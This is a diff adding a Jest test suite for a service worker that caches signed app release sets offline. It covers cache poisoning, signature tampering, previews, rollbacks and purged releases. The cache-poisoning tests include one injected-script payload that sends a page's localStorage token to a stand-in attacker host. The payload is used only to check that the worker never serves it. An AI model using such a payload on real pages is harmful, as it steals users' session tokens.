@@ -1,0 +1,305 @@
+import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals';
+import { provideCaches } from '../testing/caches.ts';
+import { integrityOf } from '../testing/integrity-of.ts';
+import { signingKey } from '../testing/signing-key.ts';
+import { openTestEdge, POLICY } from '../testing/test-edge.ts';
+
+const DAY_MS = 86_400_000;
+
+type Signed = { text: string; signature: string };
+
+let stores: ReturnType<typeof provideCaches>;
+let edge: Awaited<ReturnType<typeof openTestEdge>>;
+
+const shellOf = (version: string, code = 'shell') =>
+  edge.release('shell', version, { 'shell.js': code, 'late.js': 'late', 'frame.css': 'frame' });
+const remoteOf = (name: string, version: string, code = `${name} ${version}`) =>
+  edge.release(name, version, { 'entry.js': code, 'one.js': `one of ${name}` });
+
+/** The worker after a start: it remembers nothing. */
+async function worker() {
+  jest.resetModules();
+  const { storeSet, forgetSets } = await import('./store-set.ts');
+  const { madePage } = await import('./made-page.ts');
+  const { ReleaseFiles } = await import('./release-files.ts');
+  return { storeSet, forgetSets, madePage, ReleaseFiles };
+}
+const storeSet = async (setId?: string, only?: string[]) => (await worker()).storeSet(setId, only);
+const pageNow = async () => (await (await worker()).madePage('/'))?.text();
+const setNow = async () => /"setId":"(\w+)"/.exec((await pageNow()) ?? '')?.[1];
+
+/** The worker's answer for a file of a page. */
+async function loads(path: string, integrity = ''): Promise<string> {
+  const { ReleaseFiles } = await worker();
+  const request = { url: new URL(path, location.href).href, integrity };
+  const handler = { fetch: async () => new Response('from the network') };
+  const strategy = new ReleaseFiles() as unknown as {
+    _handle(request: unknown, handler: unknown): Promise<Response>;
+  };
+  return (await strategy._handle(request, handler)).text();
+}
+
+const filesAsked = () => edge.asked.filter((path) => path.startsWith('/r/'));
+const filesStored = () => [...(stores.get('files')?.keys() ?? [])].map((url) => url.replace(location.origin, ''));
+const poison = (cache: string, path: string, text: string) =>
+  (stores.get(cache) ?? stores.set(cache, new Map()).get(cache))?.set(
+    new URL(path, location.href).href,
+    new Response(text, { headers: { 'content-type': 'text/html' } }),
+  );
+
+beforeEach(async () => {
+  stores = provideCaches();
+  edge = await openTestEdge();
+  await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), remoteOf('wallet', '1.0.0')]);
+});
+afterEach(() => void jest.useRealTimers());
+
+describe('a hostile page that writes into the caches', () => {
+  const HOSTILE = '<html><script>fetch("https://evil.example/"+localStorage.token)</script>';
+
+  it('gets none of its pages shown', async () => {
+    await storeSet('a');
+    for (const [name, store] of stores) for (const url of store.keys()) poison(name, url, HOSTILE);
+    for (const name of ['set-a', 'notes', 'sets', 'files']) poison(name, '/', HOSTILE);
+    poison('notes', '/present-set', 'set-a');
+    expect(await pageNow()).toBeUndefined();
+  });
+
+  it('gets no file used, and the next store of the set mends them', async () => {
+    await storeSet('a');
+    poison('files', '/r/catalog/1.0.0/entry.js', HOSTILE);
+    poison('files', '/r/catalog/1.0.0/one.js', HOSTILE);
+    poison('files', '/r/catalog/1.0.0/own.js', HOSTILE);
+    for (const file of ['entry.js', 'one.js', 'own.js']) {
+      expect(await loads(`/r/catalog/1.0.0/${file}`)).toBe('from the network');
+    }
+    await storeSet();
+    expect(await loads('/r/catalog/1.0.0/entry.js')).toBe('catalog 1.0.0');
+    expect(await loads('/r/catalog/1.0.0/one.js')).toBe('one of catalog');
+    expect(filesStored()).not.toContain('/r/catalog/1.0.0/own.js');
+  });
+
+  it.each([
+    ['a changed letter', async ({ text, signature }: Signed) => ({ text: text.replace('1.0.0', '6.6.6'), signature })],
+    ['a key of its own', async ({ text }: Signed) => ({ text, signature: await (await signingKey('k1')).sign(text) })],
+    ['no text at all', async () => ({})],
+  ])('gets no document used with %s', async (_, change) => {
+    await storeSet('a');
+    poison('sets', '/stored-sets', JSON.stringify([{ ...(await change(edge.live)), at: Date.now() }]));
+    expect(await pageNow()).toBeUndefined();
+  });
+
+  it('gets no preview stored, neither by the worker nor in the store itself', async () => {
+    await storeSet('a');
+    const preview = await edge.goesLive('p', [shellOf('1.0.0'), remoteOf('catalog', '6.6.6')], { preview: true });
+    await expect(storeSet('p')).rejects.toThrow('The set is not signed for this device');
+    expect(edge.sent.get('x-viewmax-preview')).toBe('none');
+    const [stored] = JSON.parse(
+      (await stores.get('sets')?.get(`${location.origin}/stored-sets`)?.clone().text()) ?? '',
+    );
+    poison('sets', '/stored-sets', JSON.stringify([{ ...preview, at: Date.now() }, stored]));
+    expect(await setNow()).toBe('a');
+  });
+
+  it('cannot put an older set before the present one', async () => {
+    const older = { ...edge.live, at: Date.now() };
+    await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
+    await storeSet('b');
+    poison('sets', '/stored-sets', JSON.stringify([older, { ...edge.live, at: 0 }]));
+    expect(await setNow()).toBe('b');
+  });
+});
+
+describe('a stored set', () => {
+  it('starts the app with the policy and the mark of a stored page', async () => {
+    await storeSet('a');
+    edge.isOffline = true;
+    const page = await (await worker()).madePage('/nowhere');
+    expect(page?.headers.get('content-security-policy')).toBe(POLICY);
+    const made = new DOMParser().parseFromString((await page?.text()) ?? '', 'text/html');
+    expect(made.documentElement.hasAttribute('data-kept')).toBe(true);
+    expect(made.getElementById('discovery')?.textContent).toBe(edge.live.text);
+    expect(JSON.parse(made.getElementById('config')?.textContent ?? '')).toMatchObject({ keys: edge.key.ring });
+    const script = made.querySelector('script[src]');
+    expect([script?.getAttribute('src'), script?.getAttribute('integrity')]).toEqual([
+      '/r/shell/1.0.0/shell.js',
+      integrityOf('shell'),
+    ]);
+  });
+
+  it('is stored whole or not at all', async () => {
+    edge.published.delete('/r/wallet/1.0.0/one.js');
+    await expect(storeSet('a')).rejects.toThrow('404');
+    expect([await setNow(), filesStored()]).toEqual([undefined, []]);
+    edge.published.set('/r/wallet/1.0.0/one.js', 'other bytes');
+    await expect(storeSet('a')).rejects.toThrow('one.js is not the file that was published');
+    expect([await setNow(), filesStored()]).toEqual([undefined, []]);
+  });
+
+  it('stays when a file of the next set is lost', async () => {
+    await storeSet('a');
+    const before = filesStored();
+    await edge.goesLive('b', [shellOf('2.0.0', 'new'), remoteOf('catalog', '2.0.0')]);
+    edge.published.delete('/r/catalog/2.0.0/entry.js');
+    await expect(storeSet('b')).rejects.toThrow('404');
+    expect([await setNow(), filesStored()]).toEqual(['a', before]);
+  });
+
+  it('is fetched once for parallel requests, and again after a failure', async () => {
+    edge.isOffline = true;
+    const { storeSet } = await worker();
+    await expect(storeSet('a')).rejects.toThrow('Failed to fetch');
+    edge.isOffline = false;
+    edge.asked = [];
+    await Promise.all([storeSet('a'), storeSet('a')]);
+    expect(edge.asked).toHaveLength(8);
+    await storeSet('a');
+    expect(edge.asked).toHaveLength(8);
+  });
+
+  it('asks for its document again after a day by the phone’s clock, and loads no file', async () => {
+    jest.useFakeTimers({ now: Date.now() + 400 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
+    await storeSet('a');
+    edge.asked = [];
+    await storeSet('a');
+    expect(edge.asked).toEqual([]);
+    jest.setSystemTime(Date.now() + 2 * DAY_MS);
+    await storeSet('a');
+    expect(edge.asked).toEqual(['/discovery.json']);
+  });
+
+  it('contains only the used remotes on a costly network, and grows with further use', async () => {
+    await storeSet('a', ['catalog']);
+    expect(filesAsked().some((path) => path.includes('/wallet/'))).toBe(false);
+    edge.asked = [];
+    await storeSet('a', ['catalog', 'wallet']);
+    expect(filesAsked()).toEqual(['/r/wallet/1.0.0/entry.js', '/r/wallet/1.0.0/one.js']);
+  });
+
+  it('contains no file of a switched-off remote', async () => {
+    const wallet = { ...remoteOf('wallet', '1.0.0'), off: { message: 'Closed' } };
+    await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), wallet]);
+    await storeSet('a');
+    expect(filesAsked().some((path) => path.includes('/wallet/'))).toBe(false);
+  });
+
+  it('ignores an older answer, until the newer document has expired', async () => {
+    const older = edge.live;
+    await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
+    await storeSet('b');
+    edge.live = older;
+    await storeSet('a');
+    expect(await setNow()).toBe('b');
+    jest.useFakeTimers({ now: Date.now() + 2 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
+    await storeSet('a');
+    expect(await setNow()).toBe('a');
+  });
+});
+
+describe('the next set', () => {
+  it('loads only the bytes that are not stored, under their new addresses', async () => {
+    await storeSet('a');
+    edge.asked = [];
+    await edge.goesLive('b', [
+      shellOf('1.0.1', 'new shell'),
+      remoteOf('catalog', '1.0.0'),
+      remoteOf('wallet', '1.0.0'),
+    ]);
+    await storeSet('b');
+    expect(filesAsked()).toEqual(['/r/shell/1.0.1/shell.js']);
+    edge.isOffline = true;
+    expect(await loads('/r/shell/1.0.1/late.js')).toBe('late');
+    const copy = stores.get('files')?.get(`${location.origin}/r/shell/1.0.1/frame.css`);
+    expect([copy?.url, copy?.headers.get('content-type')]).toEqual(['', 'text/x']);
+  });
+
+  it('gets its stored bytes by their integrity before it is stored', async () => {
+    await storeSet('a');
+    expect(await loads('/r/shell/1.0.1/late.js', integrityOf('late'))).toBe('late');
+    expect(await loads('/r/shell/1.0.1/late.js', integrityOf('newer'))).toBe('from the network');
+    expect(await loads('/r/shell/1.0.1/late.js')).toBe('from the network');
+  });
+
+  it('costs no file after a rollback', async () => {
+    const before = [shellOf('1.0.0'), remoteOf('catalog', '1.0.0')];
+    await storeSet('a');
+    await edge.goesLive('b', [shellOf('2.0.0', 'new'), remoteOf('catalog', '2.0.0')]);
+    await storeSet('b');
+    edge.asked = [];
+    await edge.goesLive('a', before);
+    await storeSet('a');
+    expect([filesAsked(), await setNow()]).toEqual([[], 'a']);
+  });
+
+  it('leaves the set before for seven days', async () => {
+    jest.useFakeTimers({ now: Date.now() + 30 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
+    const OLD = '/r/catalog/1.0.0/entry.js';
+    await storeSet('a');
+    jest.setSystemTime(Date.now() + 30 * DAY_MS);
+    await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
+    await storeSet('b');
+    jest.setSystemTime(Date.now() + 6 * DAY_MS);
+    await storeSet('b');
+    expect(filesStored()).toContain(OLD);
+    jest.setSystemTime(Date.now() + 2 * DAY_MS);
+    await storeSet('b');
+    expect(filesStored()).not.toContain(OLD);
+    expect(filesStored()).toContain('/r/catalog/2.0.0/entry.js');
+  });
+
+  it('leaves three sets before it', async () => {
+    for (const [index, id] of ['b', 'c', 'd', 'e'].entries()) {
+      await storeSet();
+      await edge.goesLive(id, [shellOf('1.0.0'), remoteOf('catalog', `2.${index}.0`)]);
+    }
+    await storeSet('e');
+    const versions = filesStored().flatMap((path) => /catalog\/(\S+)\/entry/.exec(path)?.[1] ?? []);
+    expect(versions).toEqual(['2.0.0', '2.1.0', '2.2.0', '2.3.0']);
+  });
+});
+
+describe('a purged release', () => {
+  const PURGED = '/r/catalog/6.6.6/';
+  const purge = () => {
+    for (const path of edge.published.keys()) if (path.startsWith(PURGED)) edge.published.delete(path);
+  };
+  beforeEach(async () => {
+    await edge.goesLive('bad', [shellOf('1.0.0'), remoteOf('catalog', '6.6.6')]);
+    await storeSet('bad');
+    await edge.goesLive('good', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0')]);
+    edge.asked = [];
+  });
+
+  it('loses its set with the next one, by one request of its headers', async () => {
+    purge();
+    await storeSet('good');
+    expect(edge.asked.filter((one) => one.startsWith('HEAD'))).toEqual([`HEAD ${PURGED}entry.js`]);
+    expect(filesStored().some((path) => path.startsWith(PURGED))).toBe(false);
+    expect(await setNow()).toBe('good');
+  });
+
+  it('loses its set even if the next one cannot be stored', async () => {
+    purge();
+    edge.published.delete('/r/catalog/1.0.0/entry.js');
+    await expect(storeSet('good')).rejects.toThrow('404');
+    expect([await setNow(), filesStored().some((path) => path.startsWith(PURGED))]).toEqual([undefined, false]);
+  });
+
+  it('loses its set within a day when the purge comes after the next set', async () => {
+    jest.useFakeTimers({ now: Date.now(), doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
+    await storeSet('good');
+    expect(filesStored().some((path) => path.startsWith(PURGED))).toBe(true);
+    purge();
+    jest.setSystemTime(Date.now() + 25 * 3_600_000);
+    await storeSet('good');
+    expect(filesStored().some((path) => path.startsWith(PURGED))).toBe(false);
+  });
+
+  it('appears no more once the edge said so', async () => {
+    const { forgetSets } = await worker();
+    await forgetSets();
+    expect(await setNow()).toBeUndefined();
+    await storeSet('good');
+    expect(filesAsked()).toEqual(['/r/catalog/1.0.0/entry.js', '/r/catalog/1.0.0/one.js']);
+  });
+});
